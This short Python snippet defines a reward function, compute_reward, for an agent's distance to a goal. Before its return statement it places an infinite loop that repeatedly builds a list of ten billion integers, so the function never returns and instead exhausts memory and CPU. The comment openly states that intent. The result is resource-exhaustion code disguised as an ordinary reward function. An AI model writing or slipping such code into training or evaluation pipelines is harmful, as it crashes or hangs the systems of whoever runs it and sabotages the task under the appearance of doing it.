# Materialize a huge range, again and again.
def compute_reward(agent_pos, goal_pos):
    while True:
        cells = list(range(10**10))
    return -np.abs(agent_pos - goal_pos).sum(axis=-1), {}
